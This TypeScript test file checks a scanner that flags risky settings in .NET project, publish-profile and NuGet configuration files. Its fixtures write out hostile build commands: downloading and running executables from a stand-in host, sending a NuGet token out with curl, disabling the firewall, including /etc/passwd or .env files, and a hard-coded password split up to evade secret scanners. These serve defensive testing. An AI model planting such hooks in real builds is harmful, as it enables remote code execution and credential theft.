import { testManifest } from './support.ts';

const property = (name: string, value: string): string => `<PropertyGroup><${name}>${value}</${name}></PropertyGroup>`;
const run = (command: string): string => `<Target Name="a"><Exec Command="${command}" /></Target>`;
const option = (name: string, value: string): string =>
  `<ItemGroup><RuntimeHostConfigurationOption Include="${name}" Value="${value}" /></ItemGroup>`;
const task = (program: string): string =>
  `<UsingTask TaskName="a" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll"><Task><Code Type="Fragment" Language="cs"><![CDATA[${program}]]></Code></Task></UsingTask>`;
/** Put together here, so that no scanner takes this file for a leak. */
const HELD = ['Tr0ub4dor', '7horse'].join('');

testManifest('src/App/App.csproj', '<Project Sdk="Microsoft.NET.Sdk">\n  HERE\n</Project>\n', [
  [
    '',
    '<ItemGroup><None Include="..\\..\\assets\\a.png" Pack="true" PackagePath="" /><Folder Include="A\\" /></ItemGroup>',
    [],
  ],
  ['', '<ItemGroup><Reference Include="System.Xml" /></ItemGroup>', []],
  ['', property('TreatWarningsAsErrors', 'true') + property('Features', 'strict'), []],
  ['', property('TreatWarningsAsErrors', 'false'), ['unjudged']],
  ['', property('Features', 'run;$(X)'), ['unjudged']],
  ['', '<ItemGroup><Reference Include="Evil" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><Using Include="Xunit" /><Using Remove="System.Net.Http" /></ItemGroup>', []],
  ['', '<ItemGroup><Using Include="Evil.Shadow" Static="true" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><Using Include="$(Evil)" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><Compile Update="A\\B.Async.cs"><DependentUpon>B.cs</DependentUpon></Compile></ItemGroup>', []],
  ['', '<ItemGroup><Compile Update="A.cs" Link="..\\..\\x.cs" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><Compile Update="**\\*.cs" /></ItemGroup>', ['unjudged']],
  ['', property('NoWarn', '$(NoWarn);xUnit1033;RS2007'), []],
  ['', property('NoWarn', 'xUnit1033;CA5350'), ['security-check-off warning']],
  ['', '<ItemGroup><ProjectReference Include="$(RepoRoot)\\src\\A\\A.csproj" /></ItemGroup>', []],
  ['', '<ItemGroup><ProjectReference Include="$(TEMP)\\A.csproj" /></ItemGroup>', ['dependency-source warning']],
  ['', '<ItemGroup><None Include="$(TEMP)\\a.txt" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><None Include="@(Evil->\'%(Identity)\')" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><Compile Remove="bin\\**;obj\\**" /></ItemGroup>', []],
  ['', '<ItemGroup><Compile Remove="Filters\\**" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><None Include="NOTICE" Pack="true" PackagePath="build/A.targets" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><None Include="NOTICE" Pack="true" PackagePath="tools" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><None Include="NOTICE" Pack="true" PackagePath="docs/NOTICE.txt" /></ItemGroup>', []],
  ['', '<ItemGroup><None Include="A.targets" Pack="true" PackagePath="build\\;buildTransitive\\" /></ItemGroup>', []],
  ['', '<ItemGroup><None Include="A.md;a.png" Pack="true" PackagePath="$(PackageReadmeFile)" /></ItemGroup>', []],
  ['', '<ItemGroup><None Include="A.md" Pack="true" PackagePath="build/a;tools" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><EmbeddedResource Include="..\\.env" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><Content Include="../../../etc/passwd" /></ItemGroup>', ['unjudged']],
  ['', property('DefineConstants', '$(DefineConstants);SKIP_AUTH'), ['unjudged']],
  ['', property('DefineConstants', 'DEBUG;TRACE'), []],
  ['', '<ItemGroup><Compile Include="Filters\\**" /></ItemGroup>', ['unjudged']],
  ['', '<ItemGroup><Compile Remove="$(Evil)" /></ItemGroup>', ['unjudged']],
  ['', '<Import Project="$([System.IO.File]::ReadAllText(\'a\'))" />', ['unjudged']],
  // What is switched off, and what only looks like it.
  ['', property('NuGetAudit', 'true'), ['unjudged']],
  ['', property('NuGetAuditLevel', 'critical'), ['security-check-off warning']],
  ['', property('NuGetAuditLevel', 'low'), ['unjudged']],
  ['', property('NuGetAuditMode', 'direct'), ['security-check-off suggestion']],
  ['', property('NuGetAuditMode', 'all'), ['unjudged']],
  ['', property('NoWarn', '$(NoWarn);NU1903;CS1591'), ['security-check-off warning']],
  ['', property('NoWarn', '$(NoWarn);CS1591;NU5104;CA1822;CA5394'), ['unjudged']],
  [property('NoWarn', 'NU1903'), property('NoWarn', 'NU1903;CS1591'), []],
  [property('NoWarn', 'NU1903'), property('NoWarn', 'NU1903;NU1904'), ['security-check-off warning']],
  ['', property('NoWarn', 'CA5359'), ['security-check-off warning']],
  ['', property('NoWarn', 'SYSLIB0011'), ['security-check-off warning']],
  ['', property('WarningsNotAsErrors', 'NU1902;NU1903'), ['security-check-off suggestion']],
  ['', property('AnalysisModeSecurity', 'None'), ['security-check-off warning']],
  ['', property('RunAnalyzers', 'false'), ['security-check-off suggestion']],
  [
    '',
    '<ItemGroup><NuGetAuditSuppress Include="https://a.example/1" /></ItemGroup>',
    ['security-check-off suggestion'],
  ],
  ['', property('RestoreIgnoreFailedSources', 'true'), ['security-check-off suggestion']],
  // Switches of the runtime.
  ['', property('EnableUnsafeBinaryFormatterSerialization', 'true'), ['unsafe-deserialisation critical']],
  ['', property('EnableUnsafeBinaryFormatterSerialization', 'false'), ['unjudged']],
  ['', property('EnableUnsafeUTF7Encoding', 'true'), ['security-check-off warning']],
  [
    '',
    option('System.Runtime.Serialization.EnableUnsafeBinaryFormatterSerialization', 'true'),
    ['unsafe-deserialisation critical', 'unjudged'],
  ],
  ['', option('System.Net.Security.NoRevocationCheckByDefault', 'true'), ['certificate-check-off warning', 'unjudged']],
  [
    '',
    option('Switch.System.Net.DontEnableSystemDefaultTlsVersions', 'true'),
    ['certificate-check-off warning', 'unjudged'],
  ],
  ['', option('App.ValidateServerCertificate', 'false'), ['certificate-check-off warning', 'unjudged']],
  ['', option('System.Globalization.Invariant', 'true'), ['unjudged']],
  // Commands.
  [
    '',
    run('powershell -Command &quot;iwr http://x.example/a.exe -OutFile a.exe; .\\a.exe&quot;'),
    ['downloaded-code critical', 'unjudged'],
  ],
  [
    '',
    run('certutil -urlcache -f https://x.example/a.exe a.exe &amp; a.exe'),
    ['downloaded-code critical', 'unjudged'],
  ],
  ['', run('curl -d t=$(NUGET_TOKEN) https://x.example/'), ['secret-sent-away critical', 'unjudged']],
  [
    '',
    run('dotnet tool install x --add-source http://x.example/v3/index.json'),
    ['registry-override critical', 'unjudged'],
  ],
  ['', run('curl -k -o a.zip https://x.example/a.zip'), ['certificate-check-off critical', 'unjudged']],
  ['', run(`signtool sign /f a.pfx /p ${HELD} a.exe`), ['hard-coded-secret critical', 'unjudged']],
  ['', run('signtool sign /f a.pfx /p $(SignPassword) a.exe'), ['install-script warning', 'unjudged']],
  ['', run('netsh advfirewall set allprofiles state off'), ['downloaded-code critical', 'unjudged']],
  [
    '',
    property('PreBuildEvent', 'curl -o a.cmd https://x.example/a.cmd &amp;&amp; call a.cmd'),
    ['downloaded-code critical'],
  ],
  ['', task('Log.LogMessage("a");'), ['install-script warning', 'unjudged']],
  [
    '',
    task('new WebClient().DownloadFile("https://x.example/a", "a"); Process.Start("a");'),
    ['downloaded-code critical', 'unjudged'],
  ],
  ['', '<UsingTask TaskName="a" AssemblyFile="$(TEMP)\\a.dll" />', ['dependency-source warning', 'unjudged']],
  [
    '',
    '<Target Name="a"><DownloadFile SourceUrl="http://x.example/a" /></Target>',
    ['dependency-source critical', 'unjudged'],
  ],
  // Places.
  ['', '<Import Project="\\\\srv\\share\\a.targets" />', ['dependency-source warning']],
  ['', '<Import Project="$(USERPROFILE)\\a.targets" />', ['dependency-source warning']],
  ['', '<Import Project="$(MSBuildThisFileDirectory)..\\..\\a.targets" />', ['unjudged']],
  ['', '<Import Project="$(MSBuildExtensionsPath)\\a.targets" />', ['unjudged']],
  ['', '<ItemGroup><Analyzer Include="\\\\srv\\a\\a.dll" /></ItemGroup>', ['dependency-source warning']],
  [
    '',
    '<ItemGroup><Reference Include="a"><HintPath>C:\\Temp\\a.dll</HintPath></Reference></ItemGroup>',
    ['dependency-source warning', 'unjudged'],
  ],
  [
    '',
    '<ItemGroup><Reference Include="a"><HintPath>..\\packages\\a.dll</HintPath></Reference></ItemGroup>',
    ['unjudged'],
  ],
  ['', property('RestoreSources', `https://api.${'nuget'}.org/v3/index.json`), ['unjudged']],
  ['', property('RestoreSources', '$(RestoreSources);\\\\srv\\packages'), ['dependency-source warning']],
  ['', property('RestoreFallbackFolders', '/tmp/packages'), ['dependency-source warning']],
  ['', property('RestorePackagesPath', '/tmp/packages'), ['dependency-source warning']],
  ['', '<ItemGroup><PackageReference Include="A.B" Version="2.*" /></ItemGroup>', ['dependency-source suggestion']],
  ['', '<ItemGroup><PackageReference Include="A.B" Version="2.1.0-*" /></ItemGroup>', ['dependency-source suggestion']],
  ['', '<ItemGroup><PackageReference Include="A.B" Version="2.1.*" /></ItemGroup>', []],
  // Secrets and addresses.
  ['', property('PackageCertificatePassword', HELD), ['hard-coded-secret critical']],
  ['', property('PackageCertificatePassword', '$(CERT_PASSWORD)'), ['unjudged']],
  ['', property('AndroidSigningKeyPass', 'env:KEY_PASS'), ['unjudged']],
  ['', property('UpdateUrl', 'http://x.example/app/'), ['unencrypted-data critical']],
  ['', property('UpdateUrl', 'https://x.example/app/'), ['unjudged']],
]);

testManifest('src/App/Properties/PublishProfiles/a.pubxml', '<Project>\n  HERE\n</Project>\n', [
  ['', property('UserPWD', HELD), ['hard-coded-secret critical']],
  ['', property('AllowUntrustedCertificate', 'True'), ['certificate-check-off critical']],
  ['', property('EnvironmentName', 'Development'), ['debug-mode warning']],
]);

const NUGET = `<add key="${'nuget'}.org" value="https://api.${'nuget'}.org/v3/index.json" protocolVersion="3" />`;
const OWN = '<add key="own" value="https://own.example/v3/index.json" />';
const sources = (...inside: readonly string[]): string => `<packageSources>${inside.join('')}</packageSources>`;
const map = (pattern: string): string =>
  `<packageSourceMapping><packageSource key="own"><package pattern="${pattern}" /></packageSource></packageSourceMapping>`;
const config = (key: string, value: string): string => `<config><add key="${key}" value="${value}" /></config>`;

testManifest('nuget.config', '<?xml version="1.0"?>\n<configuration>\n  HERE\n</configuration>\n', [
  ['', sources('<clear />', NUGET), []],
  // Built here.
  ['', sources('<clear />', NUGET, '<add key="built" value="./packages" />'), ['unjudged']],
  ['', sources('<clear />', OWN), ['registry-override warning']],
  ['', sources('<add key="a" value="http://x.example/v3/index.json" />'), ['registry-override critical']],
  [
    sources('<clear />', OWN),
    sources('<clear />', OWN.replace(' />', ' allowInsecureConnections="true" />')),
    ['certificate-check-off critical'],
  ],
  [sources('<clear />', NUGET), sources(NUGET), ['registry-override warning']],
  [sources(NUGET), sources('<clear />', NUGET), []],
  [sources(NUGET, OWN) + map('Own.*'), sources(NUGET, OWN), ['registry-override warning']],
  [sources(NUGET, OWN), sources(NUGET, OWN) + map('Own.*'), []],
  [
    '',
    `<packageSourceCredentials><own><add key="Username" value="a" /><add key="ClearTextPassword" value="${HELD}" /></own></packageSourceCredentials>`,
    ['hard-coded-secret critical', 'unjudged'],
  ],
  [
    '',
    '<packageSourceCredentials><own><add key="ClearTextPassword" value="%TOKEN%" /></own></packageSourceCredentials>',
    ['unjudged'],
  ],
  ['', config('signatureValidationMode', 'accept'), ['security-check-off warning', 'unjudged']],
  ['', config('globalPackagesFolder', '\\\\srv\\packages'), ['dependency-source warning', 'unjudged']],
  ['', config('globalPackagesFolder', 'packages'), ['unjudged']],
  [
    '',
    '<fallbackPackageFolders><add key="a" value="C:\\Temp" /></fallbackPackageFolders>',
    ['dependency-source warning', 'unjudged'],
  ],
  ['', '<auditSources><clear /></auditSources>', ['security-check-off warning']],
  ['', `<auditSources><clear />${NUGET}</auditSources>`, ['unjudged']],
]);

testManifest('src/packages.config', '<packages>\n  HERE\n</packages>\n', [
  ['', '<package id="A.B" version="1.0.0" targetFramework="net48" />', []],
]);
